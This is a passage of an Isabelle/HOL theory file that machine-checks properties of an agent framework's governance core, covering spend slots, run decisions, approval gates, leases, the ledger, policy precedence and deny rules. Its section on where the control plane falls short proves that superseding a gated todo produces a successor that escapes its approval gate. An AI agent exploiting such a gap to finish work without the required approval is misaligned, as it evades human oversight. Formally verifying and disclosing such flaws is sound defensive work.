(* ===== verification/Spec2Isabelle.thy ===== *)
theory Spec2Isabelle
  imports Samples
begin

text \<open>
  agentscope.go: the governance core of an agent framework.
\<close>

section \<open>A worked example\<close>

lemma ex_fresh_todo: "fresh_todo ex1 ''g'' ''t''"
  by (simp add: fresh_todo_def ex1_def ex0_def goals_Upsert_def NewKernel_def NewMemoryTodoStore_def split_beta)

lemma ex_fresh_turn: "get2 (k_deliveries ex3) ''g'' ''u4'' = None"
  by (fact cp_runs)

lemma ex_reach: "kreach ex2" "kreach ex3" "kreach ex4" "kreach ex5"
proof -
  have "kreach ex0" unfolding ex0_def by (rule kreach.start)
  then have "kreach ex1" unfolding ex1_def by (rule kreach.step) (rule kstep.put_goal)
  moreover have "kstep ex1 ex2" unfolding ex2_def
    by (rule kstep.new_todo) (use ex_fresh_todo in \<open>simp_all add: openTodo_def ex_todo_def\<close>)
  ultimately show 2: "kreach ex2" by (rule kreach.step)
  then show 3: "kreach ex3" unfolding ex3_def by (rule kreach.step) (rule kstep.tick)
  have "kstep ex3 ex4" unfolding ex4_def
    by (rule kstep.writeback) (use ex_fresh_turn in \<open>simp add: fresh_turn_def ex_writeback_def\<close>)
  with 3 show 4: "kreach ex4" by (rule kreach.step)
  then show "kreach ex5" unfolding ex5_def by (rule kreach.step) (rule kstep.spend)
qed



section \<open>Spending\<close>





text \<open>C7: SpendSlot is all or nothing even without transactions: a call that reports an error
  leaves the whole Kernel as it was, and an executed call that succeeds found an unspent
  delivery, marks it and appends one charge with the delivery's slots.\<close>

theorem spendslot_all_or_nothing:
  "(\<not> isOk (snd (SpendSlot now g t opts k)) \<longrightarrow> fst (SpendSlot now g t opts k) = k) \<and>
   (so_Execute opts \<and> isOk (snd (SpendSlot now g t opts k)) \<longrightarrow>
     \<not> delivery_spent (k_deliveries k) (g, t) \<and>
     delivery_spent (k_deliveries (fst (SpendSlot now g t opts k))) (g, t) \<and>
     (\<exists>del. get2 (k_deliveries k) g t = Some del \<and>
       mlist (k_spend (fst (SpendSlot now g t opts k))) g = mlist (k_spend k) g @
         [\<lparr>se_GoalID = g, se_TurnID = t, se_Slots = d_Slots del, se_Reason = so_Reason opts, se_SpentAt = now\<rparr>]))"
proof (rule SpendSlot_effect [of now g t opts k])
  assume "fst (SpendSlot now g t opts k) = k" "so_Execute opts \<Longrightarrow> \<not> isOk (snd (SpendSlot now g t opts k))"
  then show ?thesis by blast
next
  fix del m
  assume "get2 (k_deliveries k) g t = Some del" "\<not> d_Spent del" "isOk (snd (SpendSlot now g t opts k))"
    and eq: "fst (SpendSlot now g t opts k) = (spent_state now g t opts del k)\<lparr>k_metrics := m\<rparr>"
  moreover have "mlist (k_spend (spent_state now g t opts del k)) g = mlist (k_spend k) g @
      [\<lparr>se_GoalID = g, se_TurnID = t, se_Slots = d_Slots del, se_Reason = so_Reason opts, se_SpentAt = now\<rparr>]"
    by (simp add: mlist_spent_state)
  moreover have "delivery_spent (k_deliveries (spent_state now g t opts del k)) (g, t)"
    by (simp add: delivery_spent_def spent_state_def gomap_simps)
  ultimately show ?thesis unfolding eq by (simp add: delivery_spent_def)
qed

theorem spendslot_all_or_nothing_witness:
  "delivery_spent (k_deliveries (fst (SpendSlot 14 ''g'' ''turn'' ex_opts ex4))) (''g'', ''turn'')"
proof -
  have "isOk (snd (SpendSlot 14 ''g'' ''turn'' ex_opts ex4))" "so_Execute ex_opts" by (fact cp_runs)+
  with spendslot_all_or_nothing [of 14 "''g''" "''turn''" ex_opts ex4] show ?thesis by simp
qed



section \<open>Decisions\<close>

text \<open>C3: ShouldRun implements its specification table: the state of the decision depends only on
  the goal's standing for the agent, an unresolved gate, an active hard policy and the quota,
  in that order of precedence, and the turn may run exactly in the state eligible.\<close>

theorem shouldrun_refines_table:
  assumes "kreach k"
  shows "dec_State (snd (ShouldRunTurn now uid g a turn k)) =
      turn_state (standing a (mget (k_goals k) g)) (gate_open k g) (vetoed k g) (quota_exhausted now k g)
    \<and> (dec_ShouldRun (snd (ShouldRunTurn now uid g a turn k)) \<longleftrightarrow>
       dec_State (snd (ShouldRunTurn now uid g a turn k)) = ComputeEligible)"
  using shouldRun_state [OF kreach_gates [OF assms]] shouldRun_eligible_iff
  by (simp add: ShouldRunTurn_def shouldRunCounted_snd)

theorem shouldrun_refines_table_witness:
  "dec_State (snd (ShouldRunTurn 12 ''tok'' ''g'' ''a'' ''turn'' ex2)) = ComputeEligible \<and>
   standing ''a'' (mget (k_goals ex2) ''g'') = RunningGoal"
proof -
  from shouldrun_refines_table [OF ex_reach(1), of 12 "''tok''" "''g''" "''a''" "''turn''"]
  have "dec_State (snd (ShouldRunTurn 12 ''tok'' ''g'' ''a'' ''turn'' ex2)) = turn_state
      (standing ''a'' (mget (k_goals ex2) ''g'')) (gate_open ex2 ''g'') (vetoed ex2 ''g'') (quota_exhausted 12 ex2 ''g'')"
    by blast
  moreover have "dec_State (snd (ShouldRunTurn 12 ''tok'' ''g'' ''a'' ''turn'' ex2)) = ComputeEligible" by (fact cp_runs)
  ultimately show ?thesis by (cases "standing ''a'' (mget (k_goals ex2) ''g'')") simp_all
qed

text \<open>ShouldRun, the inspection surface, changes nothing but the counters; the authorizing
  ShouldRunTurn also mints a ticket, only when the turn may run, and returns its token.\<close>

theorem inspection_is_pure:
  "(\<exists>m. fst (ShouldRun now g a k) = k\<lparr>k_metrics := m\<rparr>) \<and>
   (\<exists>m. fst (ShouldRunTurn now uid g a turn k) = k\<lparr>k_tickets :=
        (if dec_ShouldRun (snd (ShouldRunTurn now uid g a turn k)) \<and> turn \<noteq> ''''
         then fst (TicketStore_Mint now uid g turn (k_tickets k)) else k_tickets k), k_metrics := m\<rparr>) \<and>
   dec_TurnToken (snd (ShouldRunTurn now uid g a turn k)) =
     (if dec_ShouldRun (snd (ShouldRunTurn now uid g a turn k))
      then snd (TicketStore_Mint now uid g turn (k_tickets k)) else '''')"
  using shouldRunCounted_frame [of now "''''" g a "''''" k] shouldRunCounted_frame [of now uid g a turn k]
    shouldRun_token [of now uid g a turn k]
  by (auto simp: ShouldRun_def ShouldRunTurn_def shouldRunCounted_snd mintTicket_def TicketStore_Mint_def
      split_beta)

text \<open>the unified maintenance sweep changes no decision, and it keeps every unspent delivery
  and every active reward record.\<close>

theorem reaping_changes_no_decision:
  "snd (ShouldRun now g a (ReapAll ord t olderThan abandonTTL n k)) = snd (ShouldRun now g a k) \<and>
   (mwf2 (k_tickets k) \<and> mwf2 (k_deliveries k) \<longrightarrow>
     (get2 (k_deliveries k) g i = Some d \<and> \<not> d_Spent d \<longrightarrow>
        get2 (k_deliveries (ReapAll ord t olderThan abandonTTL n k)) g i = Some d) \<and>
     (r \<in> set (mlist (k_rewards k) g) \<and> Reward_IsActive r \<longrightarrow>
        r \<in> set (mlist (k_rewards (ReapAll ord t olderThan abandonTTL n k)) g)))"
  by (auto simp: ShouldRun_ReapAll ReapAll_keeps(1,3))

theorem reaping_changes_no_decision_witness:
  "dec_ShouldRun (snd (ShouldRun 20 ''g'' ''a'' (ReapAll id 20 5 5 0 ex4))) \<and>
   get2 (k_deliveries (ReapAll id 20 5 5 0 ex4)) ''g'' ''turn'' \<noteq> None"
proof -
  have wf: "mwf2 (k_tickets ex4)" "mwf2 (k_deliveries ex4)" by (fact cp_runs)+
  have "dec_ShouldRun (snd (ShouldRun 20 ''g'' ''a'' ex4))" by (fact cp_runs)
  moreover have "\<exists>d. get2 (k_deliveries ex4) ''g'' ''turn'' = Some d \<and> \<not> d_Spent d"
  proof -
    have "map_option d_Spent (get2 (k_deliveries ex4) ''g'' ''turn'') = Some False" by (fact cp_runs)
    then show ?thesis by auto
  qed
  ultimately show ?thesis
    using reaping_changes_no_decision [of 20 "''g''" "''a''" id 20 5 5 0 ex4 "''turn''"] wf by auto
qed

section \<open>Todos\<close>





text \<open>C10: supersession is a two-way link in every reachable state: a superseded todo is deferred and
  names an existing successor that names it back, and every todo that supersedes one is named
  by it.\<close>

theorem supersession_links:
  "kreach k \<Longrightarrow> get2 (k_todos k) g i = Some t \<Longrightarrow>
     (t_SupersededBy t \<noteq> '''' \<longrightarrow> t_State t = TodoDeferred \<and>
        (\<exists>s. get2 (k_todos k) g (t_SupersededBy t) = Some s \<and> t_Supersedes s = i)) \<and>
     (t_Supersedes t \<noteq> '''' \<longrightarrow>
        (\<exists>p. get2 (k_todos k) g (t_Supersedes t) = Some p \<and> t_SupersededBy p = i))"
  by (drule kreach_inv) (simp add: kernel_inv_def inv_lineage_def)

lemma ex_super_reach: "kreach ex_super"
proof -
  have "get2 (k_todos ex2) ''g'' ''t2'' = None" by (fact cp_runs)
  then have "kstep ex2 ex_super" unfolding ex_super_def
    by (intro kstep.supersede) (simp add: fresh_todo_def)
  then show ?thesis by (rule kreach.step [OF ex_reach(1)])
qed

theorem supersession_links_witness:
  "\<exists>s. get2 (k_todos ex_super) ''g'' ''t2'' = Some s \<and> t_Supersedes s = ''t''"
proof -
  have "map_option t_SupersededBy (get2 (k_todos ex_super) ''g'' ''t'') = Some ''t2''" by (fact cp_runs)
  then obtain t where "get2 (k_todos ex_super) ''g'' ''t'' = Some t" "t_SupersededBy t = ''t2''" by auto
  with supersession_links [OF ex_super_reach this(1)] show ?thesis by simp
qed

text \<open>C9: writeback is idempotent per turn: after an accountable writeback for a named turn has
  succeeded, a retry for that turn returns the same delivery and changes nothing.\<close>

theorem writeback_idempotent:
  assumes "kreach k" "uid \<noteq> ''''" "accountable wb" "wb_TurnID wb \<noteq> ''''"
    "isOk (snd (Writeback now uid uidR wb k))" "k' = fst (Writeback now uid uidR wb k)"
  shows "Writeback now' uid' uidR' wb k' = (k', Inr (wb_TurnID wb))"
proof -
  have twf: "todos_wf (k_todos k)" using kreach_wf [OF assms(1)] by (simp add: stores_wf_def)
  have v: "Validate wb = Inr ()" using assms(5) by (cases "Validate wb") (auto simp: Writeback_def)
  then have gid: "wb_GoalID wb \<noteq> ''''" by (simp add: Validate_ids)
  have "already_written k' wb"
  proof (cases "already_written k wb")
    case True
    then have "fst (Writeback now uid uidR wb k) = k"
      using v assms(3) by (auto simp: Writeback_def already_written_def accountable_def DeliveryStore_Get_def)
    with True assms(6) show ?thesis by simp
  next
    case False
    have "get2 (k_deliveries k') (wb_GoalID wb) (wb_TurnID wb) \<noteq> None"
    proof (rule Writeback_effect [OF twf assms(2), of now uidR wb])
      assume same: "fst (Writeback now uid uidR wb k) = k"
      obtain t where t: "get2 (k_todos k) (wb_GoalID wb) (wb_TodoID wb) = Some t"
        using assms(5) v False assms(3,4)
        by (auto simp: Writeback_def TodoStore_Get_get2 already_written_def accountable_def
            DeliveryStore_Get_def split: option.splits if_splits)
      have eq: "Writeback now uid uidR wb k = writebackTodo now uid uidR wb t k"
        using v False t assms(3,4)
        by (auto simp: Writeback_def TodoStore_Get_get2 already_written_def accountable_def
            DeliveryStore_Get_def split: option.splits)
      from ids_of_todo [OF twf t] have ids: "t_ID t \<noteq> ''''" "t_GoalID t \<noteq> ''''" by simp_all
      show ?thesis
        by (rule writebackTodo_effect [OF ids gid assms(2), of k now uidR])
          (use eq assms(3-6) gid in \<open>auto simp: store_simps turnOf_def\<close>)
    next
      fix t l r m
      assume "fst (Writeback now uid uidR wb k) =
        k\<lparr>k_todos := fst (TodoStore_Upsert now (wroteTodo wb t) (k_todos k)), k_ledger := l, k_rewards := r,
          k_deliveries := (if accountable wb
            then fst (DeliveryStore_Record now (wroteDelivery wb (turnOf uid wb)) (k_deliveries k))
            else k_deliveries k), k_metrics := m\<rparr>"
      then show ?thesis using assms(3,4,6) gid by (simp add: turnOf_def store_simps)
    qed
    then show ?thesis using assms(3,4) by (simp add: already_written_def)
  qed
  then show ?thesis
    using v assms(3) by (auto simp: Writeback_def already_written_def accountable_def DeliveryStore_Get_def)
qed

theorem writeback_idempotent_witness:
  "Writeback 99 ''u9'' ''r9'' (ex_writeback ''t'' ''turn'' OutcomeCompletion) ex4 = (ex4, Inr ''turn'')"
proof -
  have "accountable (ex_writeback ''t'' ''turn'' OutcomeCompletion)"
    by (simp add: accountable_def IsAccountable_def ex_writeback_def)
  moreover have "isOk (snd (Writeback 13 ''u4'' ''r4'' (ex_writeback ''t'' ''turn'' OutcomeCompletion) ex3))"
    by (fact cp_runs)
  moreover have "wb_TurnID (ex_writeback ''t'' ''turn'' OutcomeCompletion) = ''turn''" by (simp add: ex_writeback_def)
  ultimately show ?thesis
    using writeback_idempotent [OF ex_reach(2), of "''u4''" "ex_writeback ''t'' ''turn'' OutcomeCompletion" 13 "''r4''" ex4]
    by (simp add: ex4_def)
qed



section \<open>Gates and leases\<close>



text \<open>the listing of a goal's gates does not depend on the order in which the map is visited,
  holds exactly the stored gates that are to be shown, and is ordered by creation time, then id.\<close>

theorem gate_listing_deterministic:
  assumes "kreach k" "visits ord (map snd (inner (k_gates k) g))"
  shows "listFiltered ord (k_gates k) g b = listFiltered id (k_gates k) g b \<and>
    set (listFiltered ord (k_gates k) g b) =
      {t. (\<exists>i. get2 (k_gates k) g i = Some t) \<and> (b \<or> ug_Outcome t = None)} \<and>
    sorted (map (\<lambda>t. (ug_CreatedAt t, ug_GateID t)) (listFiltered ord (k_gates k) g b))"
proof -
  note wf = kreach_gates [OF assms(1)]
  have "sorted (map (\<lambda>t. (ug_CreatedAt t, ug_GateID t)) (listFiltered ord (k_gates k) g b))"
    by (simp add: listFiltered_inner)
  then show ?thesis
    using listFiltered_order_irrelevant [OF wf assms(2)] set_listFiltered [OF wf assms(2)]
    by (simp add: Gate_IsResolved_def)
qed

theorem gate_listing_deterministic_witness:
  "listFiltered rev (k_gates ex_asked) ''g'' True = listFiltered id (k_gates ex_asked) ''g'' True"
proof -
  have r: "kreach ex_asked" unfolding ex_asked_def by (rule kreach.step [OF ex_reach(1) kstep.open_gate])
  have "distinct (map ug_GateID (map snd (inner (k_gates ex_asked) ''g'')))"
    by (rule gates_distinct(1) [OF kreach_gates [OF r]])
  then have "distinct (map snd (inner (k_gates ex_asked) ''g''))"
    by (simp only: distinct_map [of ug_GateID])
  then have "visits rev (map snd (inner (k_gates ex_asked) ''g''))"
    by (simp add: visits_def)
  from gate_listing_deterministic [OF r this] show ?thesis by blast
qed

text \<open>C12: a live lease is exclusive: while it has not expired, no run of lease calls by others,
  on this todo or any other, changes its owner or its expiry.\<close>

theorem lease_is_exclusive:
  assumes "lease_live t0 s k = Some (ow, e)"
    and "\<And>now k' c. (now, k', c) \<in> set calls \<Longrightarrow> now < e \<and>
          (leaseKey (fst k') (snd k') = leaseKey (fst k) (snd k) \<longrightarrow> k' = k \<and> call_owner c \<noteq> Some ow)"
  shows "lease_live t0 (run_ops lease_step s calls) k = Some (ow, e)"
  using assms by (rule lease_exclusive_run)

theorem lease_is_exclusive_witness:
  "lease_live 20 (run_ops lease_step ex_lease
     [(20, (''g'', ''t''), CallAcquire ''b'' 5), (30, (''g'', ''t''), CallRelease ''b'')]) (''g'', ''t'') =
   Some (''a'', 110)"
proof -
  have "lease_live 20 ex_lease (''g'', ''t'') = Some (''a'', 110)" by (fact cp_runs)
  then show ?thesis by (rule lease_is_exclusive) auto
qed

text \<open>C13: leases end: an acquired lease is live for its owner for at most the maximum tenure, and once
  it has expired anyone may acquire it.\<close>

theorem lease_takeover:
  assumes "snd (LeaseStore_Acquire now g t ow ttl s) = Inr l" "ow \<noteq> ''''"
  shows "\<exists>e \<le> now + MaxLeaseTTL. lease_live now (fst (LeaseStore_Acquire now g t ow ttl s)) (g, t) = Some (ow, e) \<and>
    (\<forall>t' who ttl'. e \<le> t' \<and> who \<noteq> '''' \<longrightarrow>
       isOk (snd (LeaseStore_Acquire t' g t who ttl' (fst (LeaseStore_Acquire now g t ow ttl s)))))"
proof -
  from mem_lease.tenure_bounded [of now "(g, t)" ow ttl s l] assms obtain e where
    e: "lease_live now (fst (LeaseStore_Acquire now g t ow ttl s)) (g, t) = Some (ow, e)"
      "e \<le> now + MaxLeaseTTL" by auto
  moreover have "isOk (snd (LeaseStore_Acquire t' g t who ttl' (fst (LeaseStore_Acquire now g t ow ttl s))))"
    if "e \<le> t'" "who \<noteq> ''''" for t' who ttl'
    using mem_lease.takeover_after_expiry(1) [OF e(1) that] by simp
  ultimately show ?thesis by blast
qed

theorem lease_takeover_witness: "isOk (snd (LeaseStore_Acquire (10 + MaxLeaseTTL) ''g'' ''t'' ''b'' 5 ex_lease))"
proof -
  have "isOk (snd (LeaseStore_Acquire 10 ''g'' ''t'' ''a'' 100 NewMemoryLeaseStore))" by (fact cp_runs)
  then obtain l where "snd (LeaseStore_Acquire 10 ''g'' ''t'' ''a'' 100 NewMemoryLeaseStore) = Inr l"
    by (auto simp: isOk_iff)
  from lease_takeover [OF this] show ?thesis unfolding ex_lease_def by fastforce
qed

section \<open>Ledger and rewards\<close>

text \<open>a reader who polls a goal's ledger with the cursor it was given back, while others append,
  has at every moment seen exactly the first \<open>cursor\<close> events, each once and in order.\<close>

theorem ledger_polled_once:
  assumes "ledger_session l g ops = ((l', g'), c, seen)"
  shows "0 \<le> c \<and> c \<le> int (length (mlist l' g')) \<and> seen = take (nat c) (mlist l' g')"
  using ledger.poll_run_prefix [OF _ _ _ assms [unfolded ledger_session_def]] by simp

theorem ledger_polled_once_witness:
  "map ev_Type (snd (snd (ledger_session (k_ledger ex5) ''g''
     [Poll 1, Append (20, newEvent EventWork ''w'' ''''), Poll 0]))) =
   [''validated_writeback'', ''quota_slot_spent'', ''w'']"
proof -
  let ?r = "ledger_session (k_ledger ex5) ''g'' [Poll 1, Append (20, newEvent EventWork ''w'' ''''), Poll 0]"
  have r: "?r = ((fst (fst ?r), snd (fst ?r)), fst (snd ?r), snd (snd ?r))" by (simp only: prod.collapse)
  have "fst (snd ?r) = 3"
    "map ev_Type (mlist (fst (fst ?r)) (snd (fst ?r))) = [''validated_writeback'', ''quota_slot_spent'', ''w'']"
    by (fact cp_runs)+
  with ledger_polled_once [OF r] show ?thesis by (simp flip: take_map)
qed

text \<open>the selector drops no record that applies and adds none, orders them by guarded precedence
  and keeps the order of insertion within a rank; a hard policy, if one applies, comes first.\<close>

theorem veto_selection:
  "set (SelectByPrecedence rs scope) = {r \<in> set rs. selects scope r} \<and>
   sorted (map PrecedenceOrder (SelectByPrecedence rs scope)) \<and>
   filter (\<lambda>r. PrecedenceOrder r = n) (SelectByPrecedence rs scope) =
     filter (\<lambda>r. PrecedenceOrder r = n \<and> selects scope r) rs \<and>
   ((\<exists>r \<in> set rs. selects scope r \<and> rr_Class r = AuthorityHardPolicy) \<longrightarrow>
     rr_Class (hd (SelectByPrecedence rs scope)) = AuthorityHardPolicy)"
proof -
  have "rr_Class (hd (SelectByPrecedence rs scope)) = AuthorityHardPolicy"
    if "r \<in> set rs" "selects scope r" "rr_Class r = AuthorityHardPolicy" for r
    using SelectByPrecedence_hard_first [OF that] by (metis list.sel(1))
  then show ?thesis
    using set_SelectByPrecedence sorted_SelectByPrecedence filter_SelectByPrecedence by blast
qed

theorem veto_selection_witness:
  "rr_Class (hd (SelectByPrecedence [ex_record ''1'' AuthoritySoftPreference, ex_record ''2'' AuthorityHardPolicy]
     \<lparr>ds_Kind = ScopeDirection, ds_Granularity = GranularityGoal, ds_ScopeKey = ''g''\<rparr>)) = AuthorityHardPolicy"
  using veto_selection [of "[ex_record ''1'' AuthoritySoftPreference, ex_record ''2'' AuthorityHardPolicy]"
      "\<lparr>ds_Kind = ScopeDirection, ds_Granularity = GranularityGoal, ds_ScopeKey = ''g''\<rparr>" 0]
  by (simp add: ex_record_def selects_def Reward_IsActive_def)

text \<open>revoking a record under its id takes exactly that record out of force: afterwards the
  active records of the goal are the old ones without it.\<close>

theorem revoked_policy_is_gone:
  assumes "distinct (map rr_ID (mlist s g))" "i \<in> rr_ID ` set (mlist s g)"
  shows "snd (RewardStore_Revoke g i s) = Inr () \<and>
    {r \<in> set (mlist (fst (RewardStore_Revoke g i s)) g). Reward_IsActive r} =
    {r \<in> set (mlist s g). Reward_IsActive r \<and> rr_ID r \<noteq> i}"
  using Revoke_effect [OF assms] by auto

theorem revoked_policy_is_gone_witness:
  "{r \<in> set (mlist (fst (RewardStore_Revoke ''g'' ''1'' [(''g'', [ex_record ''1'' AuthorityHardPolicy])])) ''g'').
     Reward_IsActive r} = {}"
  using revoked_policy_is_gone [of "[(''g'', [ex_record ''1'' AuthorityHardPolicy])]" "''g''" "''1''"]
  by (auto simp: mlist_def ex_record_def)

section \<open>Projections and peers\<close>

text \<open>C14: the board shows every todo of the goal once, in the column of its state, with its
  lifecycle and open-gate flag, its lineage edges are the supersessions, and no card shows a
  local path or a private reference in its evidence.\<close>

theorem kanban_is_faithful_and_redacted:
  assumes "Kanban ord k g = Inr b"
  shows "board_cards b st = map (cardOf (gateTodos (GateStore_ListUnresolved id (k_gates k) g)))
        (filter (\<lambda>t. t_State t = st) (TodoStore_List ord (k_todos k) g))
    \<and> kb_Lineage b = map edgeOf (filter (\<lambda>t. t_SupersededBy t \<noteq> '''') (TodoStore_List ord (k_todos k) g))
    \<and> (\<forall>c \<in> set (board_cards b st). \<forall>e \<in> set (t_Evidence (kc_Todo c)). public_safe e)"
proof (cases "GoalStore_Get (k_goals k) g")
  case (Inl e)
  with assms show ?thesis by (simp add: Kanban_def)
next
  case (Inr gl)
  with assms have b: "b = foldl (addCard (gateTodos (GateStore_ListUnresolved id (k_gates k) g)))
      \<lparr>kb_GoalID = g, kb_Objective = g_Objective gl, kb_Columns = [], kb_Lineage = []\<rparr> (TodoStore_List ord (k_todos k) g)"
    by (simp add: Kanban_def Let_def)
  have "public_safe e" if "e \<in> set (t_Evidence (kc_Todo (cardOf gs t)))" for e gs t
    using that by (auto simp: cardOf_def Let_def RedactEvidenceSlice_def RedactEvidence_public_safe)
  then show ?thesis
    by (auto simp: b board_cards_def fold_addCard_columns fold_addCard_lineage)
qed

theorem kanban_is_faithful_and_redacted_witness:
  "\<exists>b. Kanban id ex4 ''g'' = Inr b \<and> length (board_cards b TodoDone) = 1"
proof -
  have "isOk (Kanban id ex4 ''g'')" by (fact cp_runs)
  then obtain b where b: "Kanban id ex4 ''g'' = Inr b" by (auto simp: isOk_iff)
  have "length (filter (\<lambda>t. t_State t = TodoDone) (TodoStore_List id (k_todos ex4) ''g'')) = 1" by (fact cp_runs)
  with kanban_is_faithful_and_redacted [OF b, of TodoDone] b show ?thesis by simp
qed

text \<open>an unscoped obligation goes to a registered agent, and the order and duplicates of the
  registration do not change to whom.\<close>

theorem peer_assignment_canonical:
  assumes "set as - {''''} \<noteq> {}" "length as < 2 ^ 63"
  shows "(\<exists>a \<in> set as. a \<noteq> '''' \<and> AssignPeer key as = Inr a) \<and>
    (\<forall>bs. set bs - {''''} = set as - {''''} \<longrightarrow> AssignPeer key bs = AssignPeer key as)"
proof (intro conjI allI impI)
  show "\<exists>a \<in> set as. a \<noteq> '''' \<and> AssignPeer key as = Inr a"
    by (rule AssignPeer_picks_registered [OF assms])
  fix bs assume "set bs - {''''} = set as - {''''}"
  from canonicalAgents_cong [OF this] show "AssignPeer key bs = AssignPeer key as"
    by (simp only: AssignPeer_def)
qed

theorem peer_assignment_canonical_witness: "AssignPeer ''k'' [''a'', ''a'', ''''] = AssignPeer ''k'' [''a'']"
proof -
  have "(\<exists>a \<in> set [''a'']. a \<noteq> '''' \<and> AssignPeer ''k'' [''a''] = Inr a) \<and>
    (\<forall>bs. set bs - {''''} = set [''a''] - {''''} \<longrightarrow> AssignPeer ''k'' bs = AssignPeer ''k'' [''a''])"
    by (rule peer_assignment_canonical) simp_all
  then show ?thesis by (elim conjE allE [of _ "[''a'', ''a'', '''']"]) (erule mp, auto)
qed

section \<open>Where the control plane falls short\<close>

text \<open>with ticket enforcement on, a goal that registers its agents by name can never spend:
  the eligibility probe of SpendSlot asks for the agent with the empty name.\<close>

theorem enforced_spend_blocked_by_registration:
  assumes "mget (k_goals k) g = Some gl" "g_RegisteredAgents gl \<noteq> []" "'''' \<notin> set (g_RegisteredAgents gl)"
    and "k_enforceTicket k" "so_Execute opts"
  shows "fst (SpendSlot now g t opts k) = k \<and> \<not> isOk (snd (SpendSlot now g t opts k))"
  using enforced_spend_with_agents_fails [OF assms] by blast

theorem enforced_spend_blocked_by_registration_witness:
  "fst (SpendSlot 14 ''g'' ''turn'' ex_opts ex_team) = ex_team"
proof -
  have "map_option g_RegisteredAgents (mget (k_goals ex_team) ''g'') = Some [''a'']" by (fact cp_runs)
  then obtain gl where gl: "mget (k_goals ex_team) ''g'' = Some gl" "g_RegisteredAgents gl = [''a'']" by auto
  moreover have "k_enforceTicket ex_team" "so_Execute ex_opts" by (fact cp_runs)+
  ultimately show ?thesis using enforced_spend_blocked_by_registration [OF gl(1)] by simp
qed

text \<open>superseding a todo takes it off its lane: the successor has no stage, so completing it
  needs no approval although the todo it replaces stood at a gated stage.\<close>

theorem successor_escapes_lane_gate:
  assumes "snd (SupersedeTodo now uid g i a desc why k) = Inr s"
  shows "t_StageID s = '''' \<and> \<not> laneStageGated k' gl s"
proof -
  from assms obtain old where "s = stampTodo now (successorTodo uid g desc old)"
    by (auto simp: SupersedeTodo_def Let_def split: sum.splits if_splits prod.splits)
  then show ?thesis using successor_not_gated laneStageGated_cong [of s "successorTodo uid g desc old"]
    by (simp add: successorTodo_def)
qed

theorem successor_escapes_lane_gate_witness:
  "\<exists>s. snd (SupersedeTodo 13 ''m2'' ''g'' ''m'' ''a'' ''new'' ''why'' ex_gated) = Inr s \<and>
     \<not> laneStageGated ex_gated ex_goal s \<and> laneStageGated ex_gated ex_goal (ex_todo ''m'' ''merge'')"
proof -
  have "isOk (snd (SupersedeTodo 13 ''m2'' ''g'' ''m'' ''a'' ''new'' ''why'' ex_gated))" by (fact cp_runs)
  then obtain s where s: "snd (SupersedeTodo 13 ''m2'' ''g'' ''m'' ''a'' ''new'' ''why'' ex_gated) = Inr s"
    by (auto simp: isOk_iff)
  have "laneStageGated ex_gated ex_goal (ex_todo ''m'' ''merge'')" by (fact cp_runs)
  with successor_escapes_lane_gate [OF s] s show ?thesis by blast
qed

text \<open>a compaction resets the ledger's index: after folding the history down to \<open>n\<close> events the
  next event gets index \<open>n + 1\<close>, below the indices handed out before.\<close>

theorem ledger_index_repeats:
  assumes "0 \<le> n" "n + 1 < int (length (mlist l g))" "ev_GoalID e = g"
  shows "snd (Ledger_Append now e (Ledger_Compact now' g n l)) = n + 1 \<and>
    snd (Ledger_Append now e (Ledger_Compact now' g n l)) < snd (Ledger_Append now e l)"
proof -
  have "snd (Ledger_Append now e l) = int (length (mlist l g))"
    using assms(3) by (simp add: Ledger_Append_def Let_def)
  then show ?thesis using index_after_compact [of n l g e now now'] assms by simp
qed

theorem ledger_index_repeats_witness:
  "snd (Ledger_Append 20 (newEvent EventWork ''w'' ''g'') (Ledger_Compact 19 ''g'' 0 (k_ledger ex5))) = 1"
proof -
  have "length (mlist (k_ledger ex5) ''g'') = 2" by (fact cp_runs)
  then show ?thesis
    using ledger_index_repeats [of 0 "k_ledger ex5" "''g''" "newEvent EventWork ''w'' ''g''" 20 19]
    by (simp add: newEvent_def)
qed

text \<open>a failed writeback does change durable state: on an unclaimed todo its evidence is
  stored, although no delivery is recorded.\<close>

theorem failed_writeback_leaves_traces:
  assumes "kreach k" "uid \<noteq> ''''" "get2 (k_todos k) (wb_GoalID wb) (wb_TodoID wb) = Some t"
    and "o_Status (wb_Outcome wb) = OutcomeFailed" "t_ClaimedBy t = ''''"
  shows "\<exists>t'. get2 (k_todos (fst (Writeback now uid uidR wb k))) (wb_GoalID wb) (wb_TodoID wb) = Some t' \<and>
     t_Evidence t' = t_Evidence t @ wb_Evidence wb"
  using failed_writeback_changes [OF _ assms(2-5)] kreach_wf [OF assms(1)] by (simp add: stores_wf_def)

theorem failed_writeback_leaves_traces_witness:
  "\<exists>t'. get2 (k_todos (fst (Writeback 12 ''u'' ''r'' (ex_writeback ''t'' ''turn'' OutcomeFailed) ex2))) ''g'' ''t'' = Some t'
     \<and> t_Evidence t' \<noteq> []"
proof -
  have "map_option t_ClaimedBy (get2 (k_todos ex2) ''g'' ''t'') = Some ''''" by (fact cp_runs)
  then obtain t where "get2 (k_todos ex2) ''g'' ''t'' = Some t" "t_ClaimedBy t = ''''" by auto
  then show ?thesis
    using failed_writeback_leaves_traces [OF ex_reach(1), of "''u''" "ex_writeback ''t'' ''turn'' OutcomeFailed" t 12 "''r''"]
    by (auto simp: ex_writeback_def)
qed

section \<open>Permissions\<close>

text \<open>
  The host of the examples has no regular expression that compiles, the working directory
  \<open>/w\<close>, and no letters above ASCII; the session has the shell tool and the workspace
  rules of the gateway.
\<close>

lemma fold_approve_sel:
  "eng_rules (fold ApproveRuleClass qs e) = eng_rules e \<and> eng_ctx (fold ApproveRuleClass qs e) = eng_ctx e \<and>
   callOf (fold ApproveRuleClass qs e) tc = callOf e tc"
  by (induction qs arbitrary: e) simp_all

text \<open>C15: a call that a deny rule for its tool (or for every tool) matches is
  denied by a deny rule, whatever the mode, the other rules, the tool's own hooks and the rule
  classes the user has approved in the session.\<close>

theorem deny_rule_wins:
  assumes "r \<in> set (eng_rules e)" and "r_Decision r = DecisionDeny"
    and "i < length calls" and "r_ToolName r \<in> {tc_Name (calls ! i), []}"
    and "ruleMatches h r (callOf e (calls ! i))"
  shows "\<exists>q \<in> set (eng_rules e).
    res_Decision (Evaluate h (fold ApproveRuleClass approved e) calls ! i) = DecisionDeny \<and>
    res_Rule (Evaluate h (fold ApproveRuleClass approved e) calls ! i) = Some q \<and>
    r_Decision q = DecisionDeny \<and> ruleMatches h q (callOf e (calls ! i))"
proof -
  let ?e = "fold ApproveRuleClass approved e"
  from assms obtain q where q: "firstRule h (eng_rules e) DecisionDeny (callOf e (calls ! i)) = Some q"
